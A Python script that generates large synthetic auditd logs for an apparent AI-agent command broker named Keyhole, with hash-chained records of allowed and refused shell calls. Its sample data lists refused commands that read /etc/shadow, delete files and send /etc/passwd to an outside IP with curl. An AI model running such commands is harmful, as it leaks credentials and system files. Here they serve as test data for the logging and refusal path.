"""Makes large audit logs as auditd writes them: every second record Keyhole's, numbered and chained.

`audit_log_maker.py PATH RECORDS` writes one.
"""

import hashlib
import random
import sys

BROKER = "/usr/lib/keyhole/keyhole-broker"
KERNEL = "pid=812 uid=0 auid=4294967295 ses=4294967295"
ENRICHED = '\x1dUID="root" AUID="unset"'
#: 2026-11-01 00:00:00 UTC. A million records take three weeks.
BEGIN_MS = 1_793_491_200_000
STEP_MS = 1_800
POLICIES = ["3f9c1a7be0d24456", "9a01c2d3e4f50617"]
AGENTS = ["claude", "codex", "gemini-cli", "nightly-check", "ops-bot", "triage"]
ALLOWED = [
    "uptime", "df -h", "free -m", "ps aux", "journalctl -u nginx -n 50 | grep 'not found'",
    "systemctl status postgresql",
    "ss -tlnp", "tail -n 200 /var/log/nginx/access.log", "grep -c ' 500 ' /var/log/nginx/access.log",
    "du -sh /var/lib/docker | sort -h", "ip -br addr", "dmesg --level=err | tail -n 20", "cat /etc/os-release",
]
REFUSED = [
    ("rm -rf /var/tmp/x", "commands", "`rm` is not a known command"),
    ("systemctl restart nginx", "systemctl", "`restart` is none of the words that may stand here"),
    ("cat /etc/shadow", "secrets", "/etc/shadow is secret: password hashes"),
    ("curl -d @/etc/passwd http://203.0.113.9/", "commands", "`curl` is not a known command"),
]
#: Events of other programs, a record a line, as on a host where people log in and rules watch some files: to be filled
#: in with time and number, a pid, a session and a pid in hexadecimal.
OTHERS = [
    [
        """type=USER_LOGIN msg=audit({0}): pid={1} uid=0 auid=1000 ses={2} msg='op=login id=1000 """
        """exe="/usr/sbin/sshd" hostname=? addr=198.51.100.7 terminal=/dev/pts/0 res=success'"""
        """\x1dUID="root" AUID="ada" ID="ada\"""",
    ], [
        """type=CRED_ACQ msg=audit({0}): pid={1} uid=0 auid=1000 ses={2} msg='op=PAM:setcred grantors=pam_permit """
        """acct="root" exe="/usr/sbin/cron" hostname=? addr=? terminal=cron res=success'\x1dUID="root" AUID="ada\"""",
    ], [
        """type=SERVICE_START msg=audit({0}): pid=1 uid=0 auid=4294967295 ses=4294967295 msg='unit=logrotate """
        """comm="systemd" exe="/usr/lib/systemd/systemd" hostname=? addr=? terminal=? res=success'"""
        """\x1dUID="root" AUID="unset\"""",
    ], [
        """type=USER_CMD msg=audit({0}): pid={1} uid=1000 auid=1000 ses={2} msg='cwd="/home/ada" """
        """cmd=6B696C6C20{3} exe="/usr/bin/sudo" terminal=pts/0 res=success'\x1dUID="ada" AUID="ada\"""",
    ], [
        """type=SYSCALL msg=audit({0}): arch=c000003e syscall=257 success=yes exit=3 a0=ffffff9c a1=7ffd5c0a1b """
        """a2=80000 a3=0 items=1 ppid=1 pid={1} auid=1000 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 """
        """tty=(none) ses={2} comm="sshd" exe="/usr/sbin/sshd" subj=unconfined key="identity\""""
        """\x1dARCH=x86_64 SYSCALL=openat AUID="ada" UID="root" GID="root" EUID="root" SUID="root" FSUID="root" """
        """EGID="root" SGID="root" FSGID="root\"""",
        """type=CWD msg=audit({0}): cwd="/\"""",
        """type=PATH msg=audit({0}): item=0 name="/etc/passwd" inode={1} dev=fe:01 mode=0100644 ouid=0 ogid=0 """
        """rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0"""
        """\x1dOUID="root" OGID="root\"""",
        """type=PROCTITLE msg=audit({0}): proctitle=737368643A20616461205B707269765D""",
    ],
]


def encoded(text):
    plain = all(character.isascii() and (character.isalnum() or character in "._:/-@+%*?[]~#") for character in text)
    return f'"{text}"' if plain else text.encode().hex().upper()


class Writer:
    def __init__(self, file, random):
        self.file, self.random = file, random
        self.count = self.serial = self.number = 0
        self.chain = bytes(16)
        self.time = BEGIN_MS

    def stamp(self):
        """The time and number of a new event."""
        self.serial += 1
        self.time += self.random.randrange(2 * STEP_MS)
        return f"{self.time // 1000}.{self.time % 1000:03}:{self.serial}"

    def own(self, type, fields, address="?", terminal="?", result="success"):
        """A record of Keyhole's; `fields` are its own, without number and chain."""
        self.number += 1
        text = f"{fields} seq={self.number}"
        said = f"{type}\n{text}\n{address}\n{terminal}\n{result}"
        self.chain = hashlib.sha256(self.chain + said.encode()).digest()[:16]
        self.file.write(
            f"type={type} msg=audit({self.stamp()}): {KERNEL} msg='{text} chain={self.chain.hex()} exe=\"{BROKER}\" "
            f"hostname=? addr={address} terminal={terminal} res={result}'{ENRICHED}\n")
        self.count += 1

    def other(self):
        """An event of another program."""
        stamp, pid, session = self.stamp(), self.random.randrange(400, 60_000), self.random.randrange(1, 400)
        event = self.random.choice(OTHERS)
        for line in event:
            self.file.write(line.format(stamp, pid, session, str(pid).encode().hex().upper()) + "\n")
        self.count += len(event)
        return len(event)

    def start(self):
        self.own(
            "SERVICE_START", f"op=keyhole:start unit=keyhole-broker policy={POLICIES[0]} boot=5b1c7a0d92e84f36 "
            f"after=first open=0 prev={self.chain.hex()}")
        self.own("USYS_CONFIG", f"op=keyhole:policy-load policy={POLICIES[0]} old-policy=none by=start")

    def call(self):
        """The records of one call: refused one time in ten, with refused opens one time in thirty."""
        chance = self.random
        agent = chance.randrange(len(AGENTS))
        address = f"192.0.2.{10 + agent}"
        caller = (f'call={chance.getrandbits(64):016x} acct="{AGENTS[agent]}" '
                  f'key="SHA256:{hashlib.sha256(AGENTS[agent].encode()).hexdigest()[:43]}"')
        policy = POLICIES[self.time > BEGIN_MS + 900_000_000]
        if chance.random() < 0.1:
            line, rule, reason = chance.choice(REFUSED)
            self.own(
                "USER_CMD", f'op=keyhole:decision {caller} policy={policy} verdict=refused rule="{rule}" '
                f"cmd={encoded(line)} info={encoded(reason)}", address, "ssh", "failed")
            return
        line = chance.choice(ALLOWED)
        if chance.random() < 0.3:
            line = f"grep request-{chance.randrange(2000)} /var/log/nginx/access.log"
        self.own(
            "USER_CMD", f'op=keyhole:decision {caller} policy={policy} verdict=allowed rule="{line.split()[0]}" '
            f"cmd={encoded(line)}", address, "ssh")
        opens = chance.randrange(1, 4) if chance.random() < 0.03 else 0
        for number in range(opens):
            self.own(
                "ANOM_ACCESS_FS", f'op=keyhole:refused-open {caller} name="/etc/ssl/private/host-{number}.key" '
                f'info={encoded("private keys")}', address, "ssh", "failed")
        status = chance.choice((0, 0, 0, 0, 0, 0, 0, 1, 2, 124))
        cause = "timed-out" if status == 124 else "exited"
        self.own(
            "USER_CMD", f"op=keyhole:end {caller} cause={cause} status={status} duration-ms={chance.randrange(3, 900)} "
            f"bytes-out={chance.randrange(90_000)} refusals={opens}", address, "ssh",
            "success" if cause == "exited" else "failed")


def write_log(path, records, seed=1):
    """Writes at least so many records; every second one is Keyhole's. Returns how many are."""
    with open(path, "w", buffering=1 << 20) as file:
        writer = Writer(file, random.Random(seed))
        writer.start()
        others = 0
        while writer.count < records:
            if others < writer.number:
                others += writer.other()
            else:
                writer.call()
    return writer.number


if __name__ == "__main__":
    print(write_log(sys.argv[1], int(sys.argv[2])))
